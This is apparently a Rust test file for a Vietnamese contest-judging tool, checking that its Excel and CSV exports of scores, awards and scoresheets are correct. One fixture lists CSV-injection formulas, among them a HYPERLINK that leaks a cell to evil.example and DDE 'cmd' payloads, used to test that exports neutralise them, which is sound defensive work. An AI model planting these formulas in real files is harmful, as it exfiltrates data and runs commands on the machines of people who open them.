//! Exports read back as Excel would: every cell of the workbook compared with the results.

mod common;

use std::path::Path;

use calamine::{Data, Reader};
use giamkhao::model::{Points, SheetStatus};
use giamkhao::store;
use giamkhao::store::export::{Cell, awards, blank_scoresheets, tables, write_csv, write_xlsx};
use giamkhao::text::Lang;

const SAMPLE: &str = "assets/samples/hai-phong-2023.ron";

fn number(d: &Data) -> Option<f64> {
    match d {
        Data::Float(f) => Some(*f),
        Data::Int(i) => Some(*i as f64),
        _ => None,
    }
}

fn string(d: &Data) -> String {
    match d {
        Data::Empty => String::new(),
        other => other.to_string(),
    }
}

#[test]
fn the_workbook_holds_exactly_the_results() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ket-qua.xlsx");
    write_xlsx(&path, tables(&session, &result, Lang::Vi)).unwrap();

    let mut book = calamine::open_workbook_auto(&path).unwrap();
    assert_eq!(
        book.sheet_names(),
        vec!["Kết quả", "Đạt giải", "Điểm chi tiết", "Theo giám khảo"]
    );

    // Kết quả: one row per submission in rank order, every cell as computed.
    let sheet = book.worksheet_range("Kết quả").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(string(&rows[0][1]), "Hạng");
    let expected = &result.scopes[0].rows;
    assert_eq!(rows.len() - 1, expected.len());
    let report = giamkhao::store::report::ResultsReport::new(&session, &result, Lang::Vi);
    for (cells, (row, words)) in rows[1..].iter().zip(expected.iter().zip(&report.scopes[0].rows)) {
        let category = session
            .submission(&row.submission)
            .unwrap()
            .category
            .clone()
            .unwrap();
        assert_eq!(
            string(&cells[0]),
            session.contest.category(&category).unwrap().name
        );
        assert_eq!(number(&cells[1]), row.rank.map(f64::from));
        assert_eq!(string(&cells[2]), row.submission);
        assert_eq!(number(&cells[5]), row.score.map(Points::to_f64));
        assert_eq!(number(&cells[6]), Some(f64::from(row.sheets_counted)));
        assert_eq!(string(&cells[7]), words.award_name.clone().unwrap_or_default());
        assert_eq!(number(&cells[8]), words.prize_vnd.map(|v| v as f64));
        assert_eq!(string(&cells[10]), words.flags_text.join("; "));
    }
    assert_eq!(string(&rows[1][7]), "Nhất");
    assert_eq!(number(&rows[1][8]), Some(50_000_000.0));

    // Điểm chi tiết: every judge × criterion score, as in the sheets.
    let sheet = book.worksheet_range("Điểm chi tiết").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let criteria = &session.contest.rounds[0].criteria;
    assert_eq!(rows.len() - 1, 24 * 6);
    for cells in &rows[1..] {
        let id = string(&cells[0]);
        let judge = session
            .contest
            .judges
            .iter()
            .find(|j| j.name == string(&cells[2]))
            .unwrap();
        let entry = session
            .sheet("chung-khao", &judge.id)
            .unwrap()
            .entry(&id)
            .unwrap();
        for (k, c) in criteria.iter().enumerate() {
            assert_eq!(
                number(&cells[4 + k]),
                entry.scores.get(c.id.as_str()).map(|p| p.to_f64()),
                "{id} {} {}",
                judge.id,
                c.id
            );
        }
    }

    // Theo giám khảo: each judge's total, blank where in conflict.
    let sheet = book.worksheet_range("Theo giám khảo").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let judges = &session.contest.rounds[0].judges;
    for cells in &rows[1..] {
        let row = result.row(&string(&cells[0])).unwrap();
        for (k, j) in judges.iter().enumerate() {
            let line = row.judges.iter().find(|l| l.judge.as_ref() == j).unwrap();
            let want = if line.status == SheetStatus::Conflict {
                None
            } else {
                line.total.map(Points::to_f64)
            };
            assert_eq!(number(&cells[2 + k]), want, "{} {j}", row.submission);
        }
    }
}

#[test]
fn csv_files_have_the_same_tables_for_excel() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ket-qua.csv");
    let written = write_csv(&path, tables(&session, &result, Lang::Vi), Lang::Vi).unwrap();
    let names: Vec<String> = written
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().to_string())
        .collect();
    assert_eq!(
        names,
        vec![
            "ket-qua.csv",
            "ket-qua-dat-giai.csv",
            "ket-qua-diem-chi-tiet.csv",
            "ket-qua-theo-giam-khao.csv"
        ]
    );
    for p in &written {
        assert!(std::fs::read(p).unwrap().starts_with("\u{feff}".as_bytes()));
    }
    // Vietnamese: decimal commas, so fields are separated by semicolons (as Excel set to Vietnamese
    // expects); English: decimal points and commas.
    let first_row = |path: &Path, separator: u8| {
        let text = std::fs::read_to_string(path).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let header = reader.headers().unwrap().clone();
        let first = reader.records().next().unwrap().unwrap();
        (header.len(), first)
    };
    let (columns, first) = first_row(&written[0], b';');
    assert_eq!(columns, 11);
    assert_eq!(
        (&first[0], &first[2], &first[5], &first[7], &first[8]),
        (
            "Bảng B — Doanh nghiệp, cộng đồng",
            "DA07",
            "87,33",
            "Nhất",
            "50000000"
        )
    );
    let path = dir.path().join("results.csv");
    let written = write_csv(&path, tables(&session, &result, Lang::En), Lang::En).unwrap();
    let (columns, first) = first_row(&written[0], b',');
    assert_eq!(columns, 11);
    assert_eq!(
        (&first[2], &first[5], &first[7], &first[8]),
        ("DA07", "87.33", "Nhất", "50000000")
    );
}

#[test]
fn the_award_list_in_excel_follows_the_results_and_adds_up() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("dat-giai.xlsx");
    write_xlsx(&path, [awards(&session, &result, Lang::Vi)]).unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    assert_eq!(book.sheet_names(), vec!["Đạt giải"]);
    let sheet = book.worksheet_range("Đạt giải").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(string(&rows[0][0]), "Giải");
    // Every awarded submission, tier by tier in the contest's order, with score and prize.
    let tiers = &session.contest.awards.tiers;
    let mut awarded: Vec<_> = result.scopes[0]
        .rows
        .iter()
        .filter(|r| r.award.is_some())
        .collect();
    awarded.sort_by_key(|r| tiers.iter().position(|t| Some(&t.id) == r.award.as_ref()));
    let listed = &rows[1..=awarded.len()];
    let mut total = 0.0;
    for (cells, row) in listed.iter().zip(&awarded) {
        let tier = tiers.iter().find(|t| Some(&t.id) == row.award.as_ref()).unwrap();
        let sub = session.submission(&row.submission).unwrap();
        assert_eq!(string(&cells[0]), tier.name);
        assert_eq!(string(&cells[1]), row.submission);
        assert_eq!(string(&cells[3]), sub.leader);
        assert_eq!(string(&cells[4]), sub.organization.trim());
        assert_eq!(number(&cells[5]), row.score.map(Points::to_f64));
        assert_eq!(number(&cells[6]), tier.prize_vnd.map(|v| v as f64));
        total += number(&cells[6]).unwrap_or(0.0);
    }
    assert_eq!(awarded.len(), 10, "1 Nhất, 2 Nhì, 3 Ba, 4 Khuyến khích");
    // An empty row, then the total outside the filtered table.
    assert!(rows[awarded.len() + 1].iter().all(|c| *c == Data::Empty));
    let footer = rows[awarded.len() + 2];
    assert_eq!(string(&footer[0]), "Tổng giá trị giải thưởng");
    assert_eq!(number(&footer[6]), Some(total));
    assert_eq!(total, 210_000_000.0);
}

#[test]
fn blank_scoresheets_for_excel_have_a_sheet_per_judge_with_empty_boxes() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let round = &session.contest.rounds[0];
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("phieu-cham.xlsx");
    write_xlsx(&path, blank_scoresheets(&session, &round.id, Lang::Vi).unwrap()).unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    let names = book.sheet_names();
    assert_eq!(names.len(), 1 + round.judges.len());
    assert_eq!(names[0], "Tiêu chí");
    let criteria = book.worksheet_range("Tiêu chí").unwrap();
    let rows: Vec<&[Data]> = criteria.rows().collect();
    for (cells, c) in rows[1..].iter().zip(&round.criteria) {
        assert_eq!(string(&cells[1]), c.name);
        assert_eq!(number(&cells[2]), Some(c.max.to_f64()));
        assert_eq!(number(&cells[3]), Some(c.weight.to_f64()));
        if let Some(first) = c.rubric.first() {
            assert!(string(&cells[4]).contains(&first.text));
        }
    }
    for (name, judge) in names[1..].iter().zip(&round.judges) {
        let judge = session.contest.judge(judge).unwrap();
        assert!(
            name.starts_with(&judge.id) && name.chars().count() <= 31,
            "{name}"
        );
        let sheet = book.worksheet_range(name).unwrap();
        let rows: Vec<&[Data]> = sheet.rows().collect();
        assert_eq!(string(&rows[0][2]), "TC1 (tối đa 20)");
        let listed: Vec<String> = rows[1..]
            .iter()
            .take_while(|r| r[0] != Data::Empty)
            .map(|r| string(&r[0]))
            .collect();
        let expected: Vec<&str> = session
            .submissions
            .iter()
            .filter(|s| round.is_assigned(&judge.id, &s.id))
            .map(|s| s.id.as_str())
            .collect();
        assert_eq!(listed, expected);
        // Blank boxes, except in the rows of the judge's conflicts (checked below).
        let conflicts = &common::conflicts_by_judge(&session, &round.id)[&judge.id];
        for r in rows[1..=listed.len()]
            .iter()
            .filter(|r| !conflicts.contains(&string(&r[0])))
        {
            assert!(r[2..].iter().all(|c| *c == Data::Empty), "boxes are blank");
        }
        assert!(
            string(&rows.last().unwrap()[0]).contains(&judge.name),
            "signature line"
        );
    }
}

#[test]
fn every_score_shows_the_contests_decimals() {
    // A judge's 17 shows as 17,00 next to 17,50: one number format per column.
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let tables = tables(&session, &result, Lang::Vi);
    let mut seen = 0;
    for table in &tables {
        for (_, cell) in table.rows.iter().flat_map(|r| r.filled()) {
            if let giamkhao::store::export::Cell::Number { decimals, .. } = cell {
                assert_eq!(*decimals, session.contest.decimals, "{}", table.name);
                seen += 1;
            }
        }
    }
    // Results, awards, judge × criterion scores with totals, each judge's totals.
    assert!(seen > 24 + 10 + 24 * 6 * 6, "{seen}");
}

#[test]
fn provisional_results_say_so_under_every_table() {
    let mut session = store::load_session(Path::new(SAMPLE)).unwrap();
    let mark = |t: &giamkhao::store::export::Table| {
        t.footer.iter().flatten().any(|c| {
            *c == giamkhao::store::export::Cell::Text(giamkhao::text::provisional_mark(Lang::Vi).into())
        })
    };
    // With the council's decision recorded, the results are final: no mark.
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    assert!(!tables(&session, &result, Lang::Vi).iter().any(mark));
    // Without it, every table and the award list carry the mark, in the workbook too.
    session.decisions.clear();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    assert!(result.provisional);
    let all = tables(&session, &result, Lang::Vi);
    assert!(all.iter().all(mark));
    let award_list = awards(&session, &result, Lang::Vi);
    assert!(mark(&award_list));
    // The projects tied for the last Ba slot are named as awaiting the council, not left out.
    let footer: Vec<String> = award_list
        .footer
        .iter()
        .flatten()
        .filter_map(|c| match c {
            giamkhao::store::export::Cell::Text(t) => Some(t.to_string()),
            _ => None,
        })
        .collect();
    assert!(
        footer
            .iter()
            .any(|t| t.contains("giải Ba") && t.contains("DA14") && t.contains("DA20")),
        "{footer:?}"
    );
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tam-thoi.xlsx");
    write_xlsx(&path, &all).unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    let sheet = book.worksheet_range("Kết quả").unwrap();
    assert!(
        sheet
            .rows()
            .any(|r| string(&r[0]).starts_with("KẾT QUẢ TẠM THỜI"))
    );
}

/// A judge's blank scoresheet says, in the row of each project the judge is in conflict with, not to
/// score it and why, with "—" where the scores would go; every other row keeps its blank boxes. In
/// the sample, PGS.TS. Nguyễn Văn Hải (gk1) works at the university DA05 comes from (written in
/// capitals with spaces around), and a judge recused on DA12 in their sheet.
#[test]
fn blank_scoresheets_for_excel_mark_each_judges_conflicts_and_no_others() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let round = &session.contest.rounds[0];
    let expected = common::conflicts_by_judge(&session, &round.id);
    assert!(expected["gk1"].contains("DA05"), "{expected:?}");
    assert!(expected.values().any(|s| s.contains("DA12")), "the recusal");
    assert!(
        expected.values().any(|s| s.is_empty()),
        "a judge without conflicts"
    );
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("phieu-cham.xlsx");
    let tables = blank_scoresheets(&session, &round.id, Lang::Vi).unwrap();
    write_xlsx(&path, &tables).unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    let names = book.sheet_names();
    for (name, judge) in names[1..].iter().zip(&round.judges) {
        let sheet = book.worksheet_range(name).unwrap();
        let rows: Vec<&[Data]> = sheet.rows().collect();
        let header: Vec<String> = rows[0].iter().map(string).collect();
        let note_column = header.iter().position(|h| h == "Xung đột lợi ích");
        let boxes = 2..2 + round.criteria.len() + 1;
        assert_eq!(header[boxes.end], "Nhận xét", "{name}");
        let mut marked = std::collections::BTreeSet::new();
        for row in rows[1..].iter().take_while(|r| r[0] != Data::Empty) {
            let id = string(&row[0]);
            let note = note_column.map(|c| string(&row[c])).unwrap_or_default();
            if note.is_empty() {
                assert!(
                    row[boxes.clone()].iter().all(|c| *c == Data::Empty),
                    "{name} {id}"
                );
            } else {
                assert!(
                    note.starts_with("Xung đột lợi ích — không chấm ("),
                    "{name} {id}: {note}"
                );
                assert!(
                    row[boxes.clone()].iter().all(|c| string(c) == "—"),
                    "{name} {id}: the score cells are left out"
                );
                marked.insert(id);
            }
        }
        assert_eq!(marked, expected[judge], "{name}");
        assert_eq!(
            note_column.is_some(),
            !marked.is_empty(),
            "{name}: the column only when needed"
        );
    }
    let gk1 = book.worksheet_range(&names[1]).unwrap();
    let da05 = gk1.rows().find(|r| string(&r[0]) == "DA05").unwrap();
    assert_eq!(
        string(da05.last().unwrap()),
        "Xung đột lợi ích — không chấm (cùng đơn vị với dự án)"
    );
    // As CSV, in English, the same row says so too.
    let csv = dir.path().join("phieu-cham.csv");
    let tables = blank_scoresheets(&session, &round.id, Lang::En).unwrap();
    write_csv(&csv, &tables, Lang::En).unwrap();
    let gk1 = std::fs::read_to_string(dir.path().join("phieu-cham-phieu-gk1.csv")).unwrap();
    let line = gk1.lines().find(|l| l.starts_with("DA05,")).unwrap();
    assert!(
        line.ends_with(",Conflict of interest — do not score (same organization as the project)"),
        "{line}"
    );
    assert!(
        gk1.lines()
            .next()
            .unwrap()
            .ends_with(",Comment,Conflict of interest")
    );
}

#[test]
fn after_the_council_puts_da20_first_every_table_lists_it_above_da14() {
    // The sample's council put DA14 first; decided the other way, DA20 takes Ba and DA14 Khuyến
    // khích. Both keep the shared rank; every table lists DA20 (Ba) above DA14 (Khuyến khích).
    let mut session = store::load_session(Path::new(SAMPLE)).unwrap();
    session.decisions[0].resolution = giamkhao::model::Resolution::Order(vec!["DA20".into(), "DA14".into()]);
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ket-qua.xlsx");
    write_xlsx(&path, tables(&session, &result, Lang::Vi)).unwrap();
    let csv = write_csv(
        &dir.path().join("ket-qua.csv"),
        tables(&session, &result, Lang::Vi),
        Lang::Vi,
    )
    .unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    let sheet = book.worksheet_range("Kết quả").unwrap();
    let order: Vec<(String, String)> = sheet
        .rows()
        .skip(1)
        .map(|r| (string(&r[2]), string(&r[7])))
        .filter(|(id, _)| id == "DA14" || id == "DA20")
        .collect();
    assert_eq!(
        order,
        vec![
            ("DA20".to_string(), "Ba".to_string()),
            ("DA14".to_string(), "Khuyến khích".to_string())
        ]
    );
    let text = std::fs::read_to_string(&csv[0]).unwrap();
    let (da20, da14) = (text.find(";DA20;").unwrap(), text.find(";DA14;").unwrap());
    assert!(da20 < da14, "the CSV lists DA14 first");
}

/// What a registration file can put in a cell that a spreadsheet would run as a formula (OWASP's
/// CSV injection): each starts with `=`, `+`, `-`, `@`, a tab or a carriage return.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// The sample with people's text that looks like formulas in every place a table shows it: a title,
/// leaders, an organization, a judge's name, a criterion's name, an award's name, a comment.
fn sample_with_formulas() -> giamkhao::model::Session {
    let mut session = store::load_session(Path::new(SAMPLE)).unwrap();
    let da07 = session.submissions.iter_mut().find(|s| s.id == "DA07").unwrap();
    da07.title = FORMULAS[0].into();
    da07.organization = FORMULAS[3].into();
    // Every leader, so that the award list has one whichever projects win.
    for submission in &mut session.submissions {
        submission.leader = FORMULAS[2].into();
    }
    session.contest.judges[0].name = FORMULAS[4].into();
    session.contest.rounds[0].criteria[0].name = FORMULAS[1].into();
    session.contest.awards.tiers[0].name = FORMULAS[5].into();
    let sheet = session.scoresheets.iter_mut().find(|s| s.judge == "gk2").unwrap();
    sheet.entries[0].comment = FORMULAS[6].into();
    session
}

#[test]
fn csv_cells_of_peoples_text_that_start_like_a_formula_begin_with_an_apostrophe() {
    let session = sample_with_formulas();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    for lang in [Lang::Vi, Lang::En] {
        let mut all = tables(&session, &result, lang);
        all.push(awards(&session, &result, lang));
        all.extend(blank_scoresheets(&session, &result.round, lang).unwrap());
        let mut cells = Vec::new();
        for table in &all {
            let bytes = store::export::csv_bytes(table, lang).unwrap();
            let text = String::from_utf8(bytes).unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(lang.list_separator())
                .has_headers(false)
                .flexible(true)
                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            for record in reader.records() {
                cells.extend(record.unwrap().iter().map(String::from));
            }
        }
        // Each formula is there, readable, behind an apostrophe (the header of "Điểm chi tiết" has
        // the criterion, the one of "Theo giám khảo" the judge).
        for formula in FORMULAS {
            let neutral = format!("'{formula}");
            assert!(cells.contains(&neutral), "{lang:?}: «{neutral:?}» not in any CSV");
        }
        // No cell starts like a formula any more.
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{lang:?}: «{cell:?}» would be run as a formula"
            );
        }
    }
    // The numbers giamkhao writes itself stay numbers a spreadsheet reads as such, negative ones
    // too; the same text typed by a person is text.
    let mut table = store::export::Table::new("Bảng", "bang", &["Chênh lệch", "Số", "Ghi chú"]);
    table.rows.push(
        vec![
            Cell::Number {
                value: common::p("-1.5"),
                decimals: 1,
            },
            Cell::Int(-3),
            Cell::Text("-1,5".into()),
        ]
        .into(),
    );
    for (lang, line) in [(Lang::Vi, "-1,5;-3;'-1,5"), (Lang::En, "-1.5,-3,\"'-1,5\"")] {
        let text = String::from_utf8(store::export::csv_bytes(&table, lang).unwrap()).unwrap();
        assert_eq!(text.lines().nth(1), Some(line), "{lang:?}");
    }
}

#[test]
fn xlsx_keeps_a_title_that_looks_like_a_formula_as_a_plain_text_cell() {
    let session = sample_with_formulas();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ket-qua.xlsx");
    write_xlsx(&path, tables(&session, &result, Lang::Vi)).unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    let sheet = book.worksheet_range("Kết quả").unwrap();
    let row = sheet
        .rows()
        .find(|r| string(&r[2]) == "DA07")
        .expect("DA07 in the results");
    // The title as typed, as text: no apostrophe (Excel shows a text cell as it is), no formula.
    assert_eq!(row[3], Data::String(FORMULAS[0].into()));
    assert_eq!(row[4], Data::String(FORMULAS[3].into()));
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name} has a formula cell"
        );
    }
}

/// The workbook says which giamkhao made it: in its properties and at the foot of every printed
/// page, not in a row (its tables stay data).
#[test]
fn the_workbook_says_which_giamkhao_made_it() {
    use std::io::Read;
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ket-qua.xlsx");
    write_xlsx(&path, tables(&session, &result, Lang::Vi)).unwrap();
    let made_with = format!("giamkhao {}", env!("CARGO_PKG_VERSION"));
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    let mut part = |name: &str| {
        let mut text = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let core = part("docProps/core.xml");
    assert!(
        core.contains(&format!("<dc:creator>{made_with}</dc:creator>")),
        "{core}"
    );
    for sheet in 1..=4 {
        let xml = part(&format!("xl/worksheets/sheet{sheet}.xml"));
        assert!(
            xml.contains(&format!(
                "<oddFooter>&amp;L{made_with}&amp;R&amp;P/&amp;N</oddFooter>"
            )),
            "sheet {sheet}"
        );
    }
}

/// A row keeps only its filled cells (each judge's totals of a large contest are 200 columns with
/// five filled); it reads back with its gaps, and CSV writes every column in its place.
#[test]
fn a_wide_row_of_mostly_empty_cells_keeps_its_columns() {
    use giamkhao::store::export::Row;
    let mut table = store::export::Table::new("Bảng", "bang", &["Mã", "gk1", "gk2", "gk3", "gk4"]);
    table.rows.push(Row::sparse([
        (0, Cell::Text("DA01".into())),
        (2, Cell::Empty),
        (3, Cell::Int(7)),
    ]));
    let row = &table.rows[0];
    assert_eq!(row.filled().map(|(c, _)| c).collect::<Vec<_>>(), vec![0, 3]);
    assert_eq!(row.get(3), &Cell::Int(7));
    assert_eq!(row.get(1), &Cell::Empty);
    assert_eq!(row.get(9), &Cell::Empty);
    assert_eq!(row.cells(5).count(), 5);
    let text = String::from_utf8(store::export::csv_bytes(&table, Lang::Vi).unwrap()).unwrap();
    assert_eq!(text.lines().nth(1), Some("DA01;;;7;"));
}

#[test]
fn the_analysis_sheet_has_the_judges_as_numbers_and_says_it_is_advisory() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let result = giamkhao::scoring::compute(&session).pop().unwrap();
    let index = session.contest.rounds.len() - 1;
    let analysis = giamkhao::analysis::analyze(&session, index, Default::default());
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ket-qua.xlsx");
    let sheet = giamkhao::store::export::analysis_table(&session, &analysis, Lang::Vi);
    write_xlsx(
        &path,
        tables(&session, &result, Lang::Vi).into_iter().chain([sheet]),
    )
    .unwrap();
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    assert_eq!(
        book.sheet_names(),
        vec![
            "Kết quả",
            "Đạt giải",
            "Điểm chi tiết",
            "Theo giám khảo",
            "Phân tích"
        ]
    );
    let range = book.worksheet_range("Phân tích").unwrap();
    let rows: Vec<&[Data]> = range.rows().collect();
    assert_eq!(
        string(&rows[0][0]),
        "Tham khảo — không thay đổi kết quả chính thức."
    );
    assert_eq!(string(&rows[1][0]), "Giám khảo");
    assert_eq!(string(&rows[1][5]), "Độ lệch");
    // One row per judge, severity a number Excel can sort, the verdict in words.
    for (cells, p) in rows[2..].iter().zip(&analysis.judges) {
        assert_eq!(string(&cells[0]), p.name);
        // As printed: rounded half away from zero to 2 places.
        let severity: f64 = p.severity.as_ref().unwrap().rounded(2).parse().unwrap();
        match &cells[5] {
            Data::Float(x) => assert!((x - severity).abs() < 1e-9, "{x} vs {severity}"),
            other => panic!("severity of {} is {other:?}", p.name),
        }
        assert_eq!(string(&cells[14]), giamkhao::text::analysis::leaning(p, Lang::Vi));
    }
    let all: Vec<String> = rows
        .iter()
        .map(|r| r.iter().map(string).collect::<Vec<_>>().join("|"))
        .collect();
    let all = all.join("\n");
    for needle in [
        "ICC(1,1)",
        "Kendall's W",
        "Krippendorff",
        "Tổng thứ hạng",
        "21/21 (100%)",
        "Biên độ ở mỗi ranh giới giải",
    ] {
        assert!(all.contains(needle), "{needle} in {all}");
    }
}

/// The analysis CSV gives each figure as the screen and `analyze` print it (rounded half away from
/// zero): it cut the decimals off (72,21 for a mean of 72,2174 printed 72,22 elsewhere).
#[test]
fn the_analysis_csv_rounds_like_the_screen() {
    let session = store::load_session(Path::new(SAMPLE)).unwrap();
    let index = session.contest.rounds.len() - 1;
    let analysis = giamkhao::analysis::analyze(&session, index, Default::default());
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("phan-tich.csv");
    let sheet = giamkhao::store::export::analysis_table(&session, &analysis, Lang::Vi);
    write_csv(&path, [sheet], Lang::Vi).unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    let shown = giamkhao::text::analysis::judges_table(&analysis, Lang::Vi);
    for (row, p) in shown.rows.iter().zip(&analysis.judges) {
        let line = csv
            .lines()
            .find(|l| l.starts_with(&p.name))
            .expect("the judge's line");
        let cells: Vec<&str> = line.split(';').collect();
        // Mean, SD, severity, SE, spread ratio, Pearson, Spearman: as printed.
        for c in [3, 4, 5, 6, 8, 9, 10] {
            assert_eq!(
                cells[c].replace('-', "−"),
                row[c],
                "{} column {c}: {line}",
                p.name
            );
        }
    }
}
